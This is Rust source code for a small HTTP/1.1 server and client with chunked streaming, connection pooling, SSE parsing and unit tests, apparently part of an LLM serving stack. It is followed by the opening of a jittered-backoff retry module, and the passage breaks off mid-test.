    for (i, p) in parts[..n_parts].iter().enumerate() {
        slices[i] = IoSlice::new(p);
    }
    let total: usize = parts[..n_parts].iter().map(|p| p.len()).sum();
    let mut written = w.write_vectored(&slices[..n_parts])?;
    if written < total {
        for part in &parts[..n_parts] {
            if written >= part.len() {
                written -= part.len();
                continue;
            }
            w.write_all(&part[written..])?;
            written = 0;
        }
    }
    Ok(())
}

/// Format `{len:x}\r\n` into `out` without allocating; returns byte count.
fn hex_len_header(len: usize, out: &mut [u8; 18]) -> usize {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    let mut digits = [0u8; 16];
    let mut n = len;
    let mut i = 0;
    loop {
        digits[i] = HEX[n & 0xf];
        n >>= 4;
        i += 1;
        if n == 0 {
            break;
        }
    }
    let mut w = 0;
    while i > 0 {
        i -= 1;
        out[w] = digits[i];
        w += 1;
    }
    out[w] = b'\r';
    out[w + 1] = b'\n';
    w + 2
}

struct ChunkedWriter<'a> {
    w: &'a mut dyn Write,
}

impl StreamSink for ChunkedWriter<'_> {
    fn send(&mut self, chunk: &[u8]) -> Result<()> {
        if chunk.is_empty() {
            return Ok(());
        }
        // Chunked framing in ONE vectored write (size line + data + CRLF)
        // instead of three write calls — per-frame syscalls are a dominant
        // fixed cost of token streaming (DESIGN.md §Dual-channel
        // streaming).
        let mut head = [0u8; 18];
        let head_len = hex_len_header(chunk.len(), &mut head);
        write_all_vectored(self.w, &[&head[..head_len], chunk, b"\r\n"])?;
        self.w.flush()?;
        Ok(())
    }
}

pub type Handler = Arc<dyn Fn(&Request) -> Reply + Send + Sync>;

/// Threaded HTTP server: one thread per connection with keep-alive.
pub struct Server {
    pub addr: std::net::SocketAddr,
    stop: Arc<AtomicBool>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl Server {
    /// Bind on `127.0.0.1:0` (ephemeral port) and start serving.
    pub fn start(handler: Handler) -> Result<Server> {
        Server::start_on("127.0.0.1:0", handler)
    }

    pub fn start_on(bind: &str, handler: Handler) -> Result<Server> {
        let listener = TcpListener::bind(bind).context("bind")?;
        let addr = listener.local_addr()?;
        listener.set_nonblocking(true)?;
        let stop = Arc::new(AtomicBool::new(false));
        let stop2 = stop.clone();
        let handle = std::thread::spawn(move || {
            accept_loop(listener, handler, stop2);
        });
        Ok(Server { addr, stop, handle: Some(handle) })
    }

    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    pub fn stop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop();
    }
}

fn accept_loop(listener: TcpListener, handler: Handler, stop: Arc<AtomicBool>) {
    while !stop.load(Ordering::SeqCst) {
        match listener.accept() {
            Ok((stream, _)) => {
                let h = handler.clone();
                let st = stop.clone();
                std::thread::spawn(move || {
                    let _ = serve_conn(stream, h, st);
                });
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(1));
            }
            Err(_) => break,
        }
    }
}

fn serve_conn(stream: TcpStream, handler: Handler, stop: Arc<AtomicBool>) -> Result<()> {
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut writer = stream;
    while !stop.load(Ordering::SeqCst) {
        let req = match read_request(&mut reader) {
            Ok(Some(r)) => r,
            Ok(None) => break, // clean EOF
            Err(_) => break,
        };
        let keep_alive = !req
            .header("connection")
            .map(|c| c.eq_ignore_ascii_case("close"))
            .unwrap_or(false);
        match handler(&req) {
            Reply::Full(resp) => {
                write_response(&mut writer, &resp, keep_alive)?;
            }
            Reply::Stream { status, headers, producer } => {
                write!(writer, "HTTP/1.1 {} {}\r\n", status, reason(status))?;
                for (k, v) in &headers {
                    write!(writer, "{k}: {v}\r\n")?;
                }
                writer.write_all(b"transfer-encoding: chunked\r\nconnection: close\r\n\r\n")?;
                let mut sink = ChunkedWriter { w: &mut writer };
                let res = producer(&mut sink);
                // terminal chunk
                let _ = writer.write_all(b"0\r\n\r\n");
                let _ = writer.flush();
                res?;
                break; // streaming replies close the connection
            }
        }
        if !keep_alive {
            break;
        }
    }
    Ok(())
}

fn reason(status: u16) -> &'static str {
    match status {
        200 => "OK",
        201 => "Created",
        204 => "No Content",
        400 => "Bad Request",
        401 => "Unauthorized",
        403 => "Forbidden",
        404 => "Not Found",
        405 => "Method Not Allowed",
        429 => "Too Many Requests",
        500 => "Internal Server Error",
        502 => "Bad Gateway",
        503 => "Service Unavailable",
        504 => "Gateway Timeout",
        _ => "Unknown",
    }
}

fn read_request(reader: &mut BufReader<TcpStream>) -> Result<Option<Request>> {
    let mut line = String::new();
    if reader.read_line(&mut line)? == 0 {
        return Ok(None);
    }
    let mut parts = line.trim_end().splitn(3, ' ');
    let method = parts.next().ok_or_else(|| anyhow!("bad request line"))?.to_string();
    let target = parts.next().ok_or_else(|| anyhow!("bad request line"))?.to_string();
    let _version = parts.next().unwrap_or("HTTP/1.1");

    let mut headers = BTreeMap::new();
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h)? == 0 {
            bail!("eof in headers");
        }
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            headers.insert(k.trim().to_ascii_lowercase(), v.trim().to_string());
        }
    }

    let body = if let Some(len) = headers.get("content-length") {
        let len: usize = len.parse().context("content-length")?;
        if len > 64 * 1024 * 1024 {
            bail!("body too large");
        }
        let mut buf = vec![0u8; len];
        reader.read_exact(&mut buf)?;
        buf
    } else if headers.get("transfer-encoding").map(|s| s.contains("chunked")).unwrap_or(false) {
        read_chunked(reader)?
    } else {
        Vec::new()
    };

    let (path, query) = parse_target(&target);
    Ok(Some(Request { method, path, query, headers, body }))
}

fn parse_target(target: &str) -> (String, BTreeMap<String, String>) {
    let (path, qs) = match target.split_once('?') {
        Some((p, q)) => (p, q),
        None => (target, ""),
    };
    let mut query = BTreeMap::new();
    for kv in qs.split('&').filter(|s| !s.is_empty()) {
        let (k, v) = kv.split_once('=').unwrap_or((kv, ""));
        query.insert(url_decode(k), url_decode(v));
    }
    (url_decode(path), query)
}

pub fn url_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'%' if i + 2 < b.len() => {
                if let Ok(v) =
                    u8::from_str_radix(std::str::from_utf8(&b[i + 1..i + 3]).unwrap_or("zz"), 16)
                {
                    out.push(v);
                    i += 3;
                } else {
                    out.push(b'%');
                    i += 1;
                }
            }
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

pub fn url_encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' | b'/' => {
                out.push(b as char)
            }
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn read_chunked(reader: &mut impl BufRead) -> Result<Vec<u8>> {
    let mut out = Vec::new();
    loop {
        let mut line = String::new();
        reader.read_line(&mut line)?;
        let size = usize::from_str_radix(line.trim(), 16).context("chunk size")?;
        if size == 0 {
            let mut crlf = String::new();
            reader.read_line(&mut crlf)?;
            return Ok(out);
        }
        let mut buf = vec![0u8; size + 2]; // data + CRLF
        reader.read_exact(&mut buf)?;
        buf.truncate(size);
        out.extend_from_slice(&buf);
    }
}

fn write_response(w: &mut impl Write, resp: &Response, keep_alive: bool) -> Result<()> {
    write!(w, "HTTP/1.1 {} {}\r\n", resp.status, reason(resp.status))?;
    for (k, v) in &resp.headers {
        write!(w, "{k}: {v}\r\n")?;
    }
    write!(w, "content-length: {}\r\n", resp.body.len())?;
    write!(w, "connection: {}\r\n\r\n", if keep_alive { "keep-alive" } else { "close" })?;
    w.write_all(&resp.body)?;
    w.flush()?;
    Ok(())
}

// ---------------------------------------------------------------------------
// Client
// ---------------------------------------------------------------------------

/// One-shot HTTP client call. `url` is `http://host:port/path?query`.
pub fn request(method: &str, url: &str, headers: &[(&str, &str)], body: &[u8]) -> Result<Response> {
    let (addr, path) = split_url(url)?;
    let stream = TcpStream::connect(&addr).with_context(|| format!("connect {addr}"))?;
    request_on(stream, method, &path, headers, body)
}

// ---------------------------------------------------------------------------
// Pooled client (keep-alive reuse)
// ---------------------------------------------------------------------------

/// Process-wide keep-alive connection pool keyed by `host:port`.
///
/// §Perf: the request path crosses three HTTP hops (client→gateway→proxy,
/// interface→instance); a fresh TCP connect per hop costs ~1 ms on loopback
/// and dominated the measured non-LLM latency. Reusing connections removes
/// it. Streaming replies are never pooled (they close the connection).
static POOL: Mutex<Option<std::collections::BTreeMap<String, Vec<BufReader<TcpStream>>>>> =
    Mutex::new(None);

fn pool_get(addr: &str) -> Option<BufReader<TcpStream>> {
    let mut guard = POOL.lock().unwrap();
    guard.as_mut()?.get_mut(addr)?.pop()
}

fn pool_put(addr: &str, conn: BufReader<TcpStream>) {
    let mut guard = POOL.lock().unwrap();
    let map = guard.get_or_insert_with(Default::default);
    let v = map.entry(addr.to_string()).or_default();
    if v.len() < 32 {
        v.push(conn);
    }
}

/// Like [`request`] but reuses pooled keep-alive connections. Retries once
/// on a stale pooled connection.
pub fn pooled_request(
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> Result<Response> {
    let (addr, path) = split_url(url)?;

    // Attempt over a pooled connection first.
    if let Some(mut reader) = pool_get(&addr) {
        match pooled_roundtrip(&mut reader, method, &path, headers, body) {
            Ok((resp, keep)) => {
                if keep {
                    pool_put(&addr, reader);
                }
                return Ok(resp);
            }
            Err(_) => { /* stale connection: fall through to a fresh one */ }
        }
    }

    let stream = TcpStream::connect(&addr).with_context(|| format!("connect {addr}"))?;
    stream.set_nodelay(true)?;
    let mut reader = BufReader::new(stream);
    let (resp, keep) = pooled_roundtrip(&mut reader, method, &path, headers, body)?;
    if keep {
        pool_put(&addr, reader);
    }
    Ok(resp)
}

fn pooled_roundtrip(
    reader: &mut BufReader<TcpStream>,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> Result<(Response, bool)> {
    let mut w = reader.get_ref().try_clone()?;
    write!(w, "{method} {path} HTTP/1.1\r\nhost: local\r\nconnection: keep-alive\r\n")?;
    for (k, v) in headers {
        write!(w, "{k}: {v}\r\n")?;
    }
    write!(w, "content-length: {}\r\n\r\n", body.len())?;
    w.write_all(body)?;
    w.flush()?;
    let resp = read_response(reader)?;
    let keep = resp
        .header_value("connection")
        .map(|c| c.eq_ignore_ascii_case("keep-alive"))
        .unwrap_or(false)
        // Chunked replies consume the whole body above but signal close.
        && resp.header_value("transfer-encoding").is_none();
    Ok((resp, keep))
}

/// Like [`request`] but with connect/read timeouts.
pub fn request_timeout(
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
    body: &[u8],
    timeout: Duration,
) -> Result<Response> {
    let (addr, path) = split_url(url)?;
    let sockaddr = addr
        .to_socket_addrs()?
        .next()
        .ok_or_else(|| anyhow!("no addr for {addr}"))?;
    let stream = TcpStream::connect_timeout(&sockaddr, timeout)?;
    stream.set_read_timeout(Some(timeout))?;
    request_on(stream, method, &path, headers, body)
}

fn request_on(
    stream: TcpStream,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> Result<Response> {
    stream.set_nodelay(true)?;
    let mut w = stream.try_clone()?;
    write!(w, "{method} {path} HTTP/1.1\r\nhost: local\r\nconnection: close\r\n")?;
    for (k, v) in headers {
        write!(w, "{k}: {v}\r\n")?;
    }
    write!(w, "content-length: {}\r\n\r\n", body.len())?;
    w.write_all(body)?;
    w.flush()?;
    read_response(&mut BufReader::new(stream))
}

/// GET helper.
pub fn get(url: &str) -> Result<Response> {
    request("GET", url, &[], &[])
}

/// POST a JSON body.
pub fn post_json(url: &str, body: &crate::util::json::Json) -> Result<Response> {
    request("POST", url, &[("content-type", "application/json")], body.dump().as_bytes())
}

/// Streaming request: calls `on_chunk` for every body chunk as it arrives.
/// Returns the response status. Used for SSE consumption.
pub fn request_stream(
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
    body: &[u8],
    mut on_chunk: impl FnMut(&[u8]),
) -> Result<u16> {
    request_stream_ctl(method, url, headers, body, |chunk| {
        on_chunk(chunk);
        true
    })
    .map(|(status, _)| status)
}

/// Cancellable streaming request: like [`request_stream`], but `on_chunk`
/// returns whether to keep consuming. Returning `false` drops the TCP
/// connection immediately — the server sees a write failure on its next
/// chunk, which is the disconnect signal the whole request-lifecycle chain
/// propagates (DESIGN.md §Request lifecycle).
///
/// Returns `(status, aborted)`: `aborted` is true iff the callback stopped
/// the stream before the server finished it.
pub fn request_stream_ctl(
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
    body: &[u8],
    mut on_chunk: impl FnMut(&[u8]) -> bool,
) -> Result<(u16, bool)> {
    // Thin wrapper over the coalescing reader: a delivered "chunk" may
    // carry several already-arrived transfer frames back to back, which
    // every caller (SSE parsing, byte pumps) is agnostic to.
    request_stream_coalesced(method, url, headers, body, |_status, batch| on_chunk(batch))
        .map(|(status, aborted, _saved)| (status, aborted))
}

/// Like [`request_stream_ctl`], but each wake-up drains every chunked
/// frame that has *already arrived* (buffered — no extra syscalls, never
/// blocking) and delivers them to the callback as one batch. A per-token
/// SSE pump built on this does one downstream write per wake-up instead of
/// one per frame — the streaming-overhead fix the ISSUE's STREAM reference
/// batches for.
///
/// The callback also receives the response status (known before the first
/// batch), so a caller can decide to abort-and-retry an upstream that
/// answered 5xx without forwarding its error body downstream.
///
/// Returns `(status, aborted, frames_saved)`: `frames_saved` counts frames
/// that rode an earlier frame's batch (total frames = callbacks + saved).
pub fn request_stream_coalesced(
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
    body: &[u8],
    mut on_batch: impl FnMut(u16, &[u8]) -> bool,
) -> Result<(u16, bool, u64)> {
    let (addr, path) = split_url(url)?;
    let stream = TcpStream::connect(&addr)?;
    stream.set_nodelay(true)?;
    let mut w = stream.try_clone()?;
    write!(w, "{method} {path} HTTP/1.1\r\nhost: local\r\nconnection: close\r\n")?;
    for (k, v) in headers {
        write!(w, "{k}: {v}\r\n")?;
    }
    write!(w, "content-length: {}\r\n\r\n", body.len())?;
    w.write_all(body)?;
    w.flush()?;

    let mut reader = BufReader::new(stream);
    let (status, resp_headers) = read_status_and_headers(&mut reader)?;
    let chunked = resp_headers
        .get("transfer-encoding")
        .map(|s| s.contains("chunked"))
        .unwrap_or(false);
    let mut saved = 0u64;
    if chunked {
        // One pooled buffer serves every batch of the stream: zero
        // steady-state allocations on the coalescing read path.
        let mut batch = frame_buf_acquire();
        let mut line = String::new();
        loop {
            line.clear();
            reader.read_line(&mut line)?;
            let size = match usize::from_str_radix(line.trim(), 16) {
                Ok(s) => s,
                Err(_) => {
                    frame_buf_release(batch);
                    bail!("chunk size {line:?}");
                }
            };
            if size == 0 {
                break;
            }
            batch.resize(size + 2, 0);
            reader.read_exact(&mut batch)?;
            batch.truncate(size);
            // Drain frames the kernel already delivered into this batch.
            let mut done = false;
            while buffered_chunk_into(&mut reader, &mut done, &mut batch) {
                saved += 1;
            }
            if !on_batch(status, &batch) {
                let _ = reader.get_ref().shutdown(std::net::Shutdown::Both);
                frame_buf_release(batch);
                return Ok((status, true, saved));
            }
            if done {
                break;
            }
        }
        frame_buf_release(batch);
    } else if let Some(len) = resp_headers.get("content-length") {
        let len: usize = len.parse()?;
        let mut buf = vec![0u8; len];
        reader.read_exact(&mut buf)?;
        if !on_batch(status, &buf) {
            let _ = reader.get_ref().shutdown(std::net::Shutdown::Both);
            return Ok((status, true, saved));
        }
    }
    Ok((status, false, saved))
}

/// Parse one complete chunked-transfer frame out of the reader's internal
/// buffer without touching the socket. Sets `done` (and consumes the bytes)
/// when the terminal 0-length chunk is fully buffered. Returns `None` when
/// the buffered bytes don't contain a complete frame.
fn buffered_chunk_into(
    reader: &mut BufReader<TcpStream>,
    done: &mut bool,
    out: &mut Vec<u8>,
) -> bool {
    let buf = reader.buffer();
    let nl = match buf.iter().position(|&b| b == b'\n') {
        Some(nl) => nl,
        None => return false,
    };
    let size = match std::str::from_utf8(&buf[..nl])
        .ok()
        .and_then(|s| usize::from_str_radix(s.trim(), 16).ok())
    {
        Some(size) => size,
        None => return false,
    };
    if size == 0 {
        // Terminal chunk "0\r\n\r\n": needs its trailing blank line too.
        if buf.len() >= nl + 3 {
            reader.consume(nl + 3);
            *done = true;
        }
        return false;
    }
    let total = nl + 1 + size + 2; // size line + data + CRLF
    if buf.len() < total {
        return false;
    }
    // Append straight from the BufReader's internal buffer: no
    // intermediate Vec per coalesced frame.
    out.extend_from_slice(&buf[nl + 1..nl + 1 + size]);
    reader.consume(total);
    true
}

/// Parse SSE `data:` payloads out of a raw chunk stream.
#[derive(Default)]
pub struct SseParser {
    buf: String,
}

impl SseParser {
    /// Feed bytes; returns completed `data:` payloads.
    pub fn push(&mut self, chunk: &[u8]) -> Vec<String> {
        self.buf.push_str(&String::from_utf8_lossy(chunk));
        let mut out = Vec::new();
        while let Some(pos) = self.buf.find("\n\n") {
            let event: String = self.buf[..pos].to_string();
            self.buf.drain(..pos + 2);
            for line in event.lines() {
                if let Some(data) = line.strip_prefix("data: ") {
                    out.push(data.to_string());
                } else if let Some(data) = line.strip_prefix("data:") {
                    out.push(data.trim_start().to_string());
                }
            }
        }
        out
    }
}

fn split_url(url: &str) -> Result<(String, String)> {
    let rest = url.strip_prefix("http://").ok_or_else(|| anyhow!("only http:// supported"))?;
    let (addr, path) = match rest.split_once('/') {
        Some((a, p)) => (a.to_string(), format!("/{p}")),
        None => (rest.to_string(), "/".to_string()),
    };
    Ok((addr, path))
}

fn read_status_and_headers(
    reader: &mut impl BufRead,
) -> Result<(u16, BTreeMap<String, String>)> {
    let mut line = String::new();
    reader.read_line(&mut line)?;
    let status: u16 = line
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| anyhow!("bad status line {line:?}"))?;
    let mut headers = BTreeMap::new();
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h)? == 0 {
            break;
        }
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            headers.insert(k.trim().to_ascii_lowercase(), v.trim().to_string());
        }
    }
    Ok((status, headers))
}

fn read_response(reader: &mut BufReader<TcpStream>) -> Result<Response> {
    let (status, headers) = read_status_and_headers(reader)?;
    let body = if headers.get("transfer-encoding").map(|s| s.contains("chunked")).unwrap_or(false)
    {
        read_chunked(reader)?
    } else if let Some(len) = headers.get("content-length") {
        let len: usize = len.parse()?;
        let mut buf = vec![0u8; len];
        reader.read_exact(&mut buf)?;
        buf
    } else {
        let mut buf = Vec::new();
        reader.read_to_end(&mut buf)?;
        buf
    };
    Ok(Response {
        status,
        headers: headers.into_iter().collect(),
        body,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::json::Json;

    fn echo_server() -> Server {
        Server::start(Arc::new(|req: &Request| {
            match (req.method.as_str(), req.path.as_str()) {
                ("GET", "/ping") => Reply::full(Response::text(200, "pong")),
                ("POST", "/echo") => Reply::full(
                    Response::new(200)
                        .header("content-type", "application/octet-stream")
                        .with_body(&req.body),
                ),
                ("GET", "/query") => {
                    let v = req.query.get("q").cloned().unwrap_or_default();
                    Reply::full(Response::text(200, &v))
                }
                ("GET", "/stream") => Reply::sse(|sink| {
                    for i in 0..5 {
                        sink.send_event(&format!("tok{i}"))?;
                    }
                    sink.send_event("[DONE]")?;
                    Ok(())
                }),
                _ => Reply::full(Response::text(404, "nope")),
            }
        }))
        .unwrap()
    }

    #[test]
    fn get_roundtrip() {
        let s = echo_server();
        let r = get(&format!("{}/ping", s.url())).unwrap();
        assert_eq!(r.status, 200);
        assert_eq!(r.body_str(), "pong");
    }

    #[test]
    fn post_body_roundtrip() {
        let s = echo_server();
        let payload = vec![0u8, 1, 2, 250, 255];
        let r = request("POST", &format!("{}/echo", s.url()), &[], &payload).unwrap();
        assert_eq!(r.body, payload);
    }

    #[test]
    fn query_decoding() {
        let s = echo_server();
        let r = get(&format!("{}/query?q=hello%20w%2Brld", s.url())).unwrap();
        assert_eq!(r.body_str(), "hello w+rld");
    }

    #[test]
    fn not_found() {
        let s = echo_server();
        let r = get(&format!("{}/missing", s.url())).unwrap();
        assert_eq!(r.status, 404);
    }

    #[test]
    fn sse_streaming() {
        let s = echo_server();
        let mut parser = SseParser::default();
        let mut events = Vec::new();
        let status = request_stream("GET", &format!("{}/stream", s.url()), &[], &[], |chunk| {
            events.extend(parser.push(chunk));
        })
        .unwrap();
        assert_eq!(status, 200);
        assert_eq!(events, vec!["tok0", "tok1", "tok2", "tok3", "tok4", "[DONE]"]);
    }

    #[test]
    fn json_post_and_parse() {
        let s = echo_server();
        let body = Json::obj().set("x", 1u64);
        let r = post_json(&format!("{}/echo", s.url()), &body).unwrap();
        assert_eq!(r.json_body().unwrap().u64_or("x", 0), 1);
    }

    #[test]
    fn many_sequential_requests() {
        let s = echo_server();
        for _ in 0..50 {
            assert_eq!(get(&format!("{}/ping", s.url())).unwrap().status, 200);
        }
    }

    #[test]
    fn concurrent_requests() {
        let s = echo_server();
        let url = format!("{}/ping", s.url());
        let handles: Vec<_> = (0..8)
            .map(|_| {
                let u = url.clone();
                std::thread::spawn(move || {
                    for _ in 0..20 {
                        assert_eq!(get(&u).unwrap().status, 200);
                    }
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
    }

    #[test]
    fn url_encode_decode_roundtrip() {
        let s = "a b+c/d?e=f&g%h";
        assert_eq!(url_decode(&url_encode(s)), s);
    }

    #[test]
    fn sse_parser_event_split_across_chunks() {
        // One event delivered in three fragments, splitting both the
        // `data: ` prefix and the `\n\n` terminator across pushes.
        let mut p = SseParser::default();
        assert_eq!(p.push(b"da"), Vec::<String>::new());
        assert_eq!(p.push(b"ta: hel"), Vec::<String>::new());
        assert_eq!(p.push(b"lo\n"), Vec::<String>::new());
        assert_eq!(p.push(b"\n"), vec!["hello"]);
        // A chunk carrying the tail of one event plus a whole second one.
        let mut p = SseParser::default();
        assert_eq!(p.push(b"data: a\n"), Vec::<String>::new());
        assert_eq!(p.push(b"\ndata: b\n\ndata: c"), vec!["a", "b"]);
        assert_eq!(p.push(b"\n\n"), vec!["c"]);
    }

    #[test]
    fn sse_parser_compact_prefix_and_multiline_event() {
        let mut p = SseParser::default();
        // `data:` without the space is valid SSE framing.
        assert_eq!(p.push(b"data:tight\n\n"), vec!["tight"]);
        // Two data lines inside a single event block both surface.
        assert_eq!(p.push(b"data: one\ndata: two\n\n"), vec!["one", "two"]);
        // Non-data lines (comments, event names) are ignored.
        assert_eq!(p.push(b": comment\nevent: x\ndata: y\n\n"), vec!["y"]);
    }

    #[test]
    fn send_event_batch_is_one_chunk_with_all_frames() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        let server = Server::start(Arc::new(|_req: &Request| {
            Reply::sse(|sink| {
                sink.send_event_batch(&["a", "b", "c"])?;
                sink.send_event("[DONE]")?;
                Ok(())
            })
        }))
        .unwrap();
        let chunks = AtomicUsize::new(0);
        let mut parser = SseParser::default();
        let mut events = Vec::new();
        let status =
            request_stream("GET", &format!("{}/s", server.url()), &[], &[], |chunk| {
                chunks.fetch_add(1, Ordering::SeqCst);
                events.extend(parser.push(chunk));
            })
            .unwrap();
        assert_eq!(status, 200);
        assert_eq!(events, vec!["a", "b", "c", "[DONE]"]);
        assert_eq!(chunks.load(Ordering::SeqCst), 2, "3 events in one chunk + [DONE]");
    }

    #[test]
    fn request_stream_coalesced_batches_ready_frames() {
        // Server: one event, a pause, then an 11-frame burst. The client
        // sleeps on its first batch, so the burst is fully buffered by its
        // next wake-up and must arrive coalesced.
        let server = Server::start(Arc::new(|_req: &Request| {
            Reply::sse(|sink| {
                sink.send_event("tok0")?;
                std::thread::sleep(Duration::from_millis(150));
                for i in 1..12 {
                    sink.send_event(&format!("tok{i}"))?;
                }
                Ok(())
            })
        }))
        .unwrap();
        let mut parser = SseParser::default();
        let mut events = Vec::new();
        let mut batches = 0u64;
        let (status, aborted, saved) = request_stream_coalesced(
            "GET",
            &format!("{}/s", server.url()),
            &[],
            &[],
            |status, batch| {
                assert_eq!(status, 200);
                batches += 1;
                events.extend(parser.push(batch));
                if batches == 1 {
                    std::thread::sleep(Duration::from_millis(400));
                }
                true
            },
        )
        .unwrap();
        assert_eq!(status, 200);
        assert!(!aborted);
        let expected: Vec<String> = (0..12).map(|i| format!("tok{i}")).collect();
        assert_eq!(events, expected, "no frame lost or reordered by coalescing");
        assert_eq!(batches + saved, 12, "every frame either woke us or rode a batch");
        assert!(saved >= 5, "burst should coalesce: {batches} batches, {saved} saved");
    }

    #[test]
    fn request_stream_coalesced_abort_still_disconnects() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        let sent = Arc::new(AtomicUsize::new(0));
        let sent2 = sent.clone();
        let server = Server::start(Arc::new(move |_req: &Request| {
            let sent = sent2.clone();
            Reply::sse(move |sink| {
                for i in 0..50 {
                    std::thread::sleep(Duration::from_millis(10));
                    if sink.send_event(&format!("tok{i}")).is_err() {
                        return Ok(());
                    }
                    sent.fetch_add(1, Ordering::SeqCst);
                }
                Ok(())
            })
        }))
        .unwrap();
        let mut seen = 0usize;
        let (status, aborted, _saved) = request_stream_coalesced(
            "GET",
            &format!("{}/s", server.url()),
            &[],
            &[],
            |_, _| {
                seen += 1;
                seen < 3
            },
        )
        .unwrap();
        assert_eq!(status, 200);
        assert!(aborted);
        std::thread::sleep(Duration::from_millis(300));
        let produced = sent.load(Ordering::SeqCst);
        assert!(produced < 20, "server kept streaming after disconnect: {produced}");
    }

    #[test]
    fn stream_ctl_abort_disconnects_mid_stream() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        // A slow SSE producer that stops when its sink write fails (the
        // pattern every streaming layer in the stack uses).
        let sent = Arc::new(AtomicUsize::new(0));
        let sent2 = sent.clone();
        let server = Server::start(Arc::new(move |_req: &Request| {
            let sent = sent2.clone();
            Reply::sse(move |sink| {
                for i in 0..50 {
                    std::thread::sleep(Duration::from_millis(10));
                    if sink.send_event(&format!("tok{i}")).is_err() {
                        return Ok(()); // client gone: stop producing
                    }
                    sent.fetch_add(1, Ordering::SeqCst);
                }
                Ok(())
            })
        }))
        .unwrap();
        let mut seen = 0usize;
        let (status, aborted) =
            request_stream_ctl("GET", &format!("{}/s", server.url()), &[], &[], |_| {
                seen += 1;
                seen < 3 // abandon after the third chunk
            })
            .unwrap();
        assert_eq!(status, 200);
        assert!(aborted);
        // The producer notices within a write or two of the shutdown —
        // nowhere near the 50 events a run-to-completion server would send.
        std::thread::sleep(Duration::from_millis(300));
        let produced = sent.load(Ordering::SeqCst);
        assert!(produced < 20, "server kept streaming after disconnect: {produced}");
    }
}
