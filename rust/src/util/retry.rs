//! Unified retry policy (DESIGN.md §Failure policy).
//!
//! Every layer that retries — hpcproxy reconnects, gateway upstream
//! retries, scheduler resubmits — shares one formula: capped exponential
//! backoff with *decorrelated jitter* (each delay is drawn uniformly from
//! `[base, 3 × previous]`, clamped to `cap`), so a fleet of failed lanes
//! never thundering-herds its dependency in lockstep. Delays come from a
//! seeded [`Rng`], which keeps every schedule reproducible: the same seed
//! replays the same backoff sequence, bit for bit, under wall or virtual
//! clocks alike.

use std::time::Duration;

use crate::util::rng::Rng;

/// Retry budget + backoff shape for one dependency.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Total attempts (the first try included). `1` = no retries.
    pub max_attempts: u32,
    /// Lower bound of every backoff delay.
    pub base: Duration,
    /// Upper bound the exponential growth saturates at.
    pub cap: Duration,
}

impl RetryPolicy {
    pub fn new(max_attempts: u32, base: Duration, cap: Duration) -> RetryPolicy {
        RetryPolicy { max_attempts: max_attempts.max(1), base, cap }
    }

    /// Retries after the first attempt.
    pub fn retries(&self) -> u32 {
        self.max_attempts - 1
    }

    /// A fresh jittered backoff schedule. Distinct seeds give distinct
    /// schedules — the anti-thundering-herd property callers lean on.
    pub fn backoff(&self, seed: u64) -> Backoff {
        let base_us = (self.base.as_micros() as u64).max(1);
        Backoff {
            base_us,
            cap_us: (self.cap.as_micros() as u64).max(base_us),
            prev_us: base_us,
            rng: Rng::new(seed),
        }
    }
}

/// One in-progress backoff schedule (decorrelated jitter, AWS-style:
/// `delay = min(cap, uniform(base, 3 × previous))`).
#[derive(Debug, Clone)]
pub struct Backoff {
    base_us: u64,
    cap_us: u64,
    prev_us: u64,
    rng: Rng,
}

impl Backoff {
    /// The next delay to sleep before retrying.
    pub fn next_delay(&mut self) -> Duration {
        let hi = self.prev_us.saturating_mul(3).clamp(self.base_us, self.cap_us);
        let d = self.rng.range(self.base_us, hi);
        self.prev_us = d;
        Duration::from_micros(d)
    }

    /// Deadline-aware variant: `None` when the drawn delay would not leave
    /// any of the remaining deadline budget to actually retry in — a
    /// caller holding a request deadline must give up rather than sleep
    /// past it.
    pub fn next_delay_within(&mut self, remaining: Duration) -> Option<Duration> {
        if remaining.is_zero() {
            return None;
        }
        let d = self.next_delay();
        if d >= remaining {
            return None;
        }
        Some(d)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> RetryPolicy {
        RetryPolicy::new(3, Duration::from_millis(10), Duration::from_millis(80))
    }

    #[test]
    fn delays_stay_within_base_and_cap() {
        let mut b = policy().backoff(7);
        for _ in 0..200 {
            let d = b.next_delay();
            assert!(d >= Duration::from_millis(10), "below base: {d:?}");
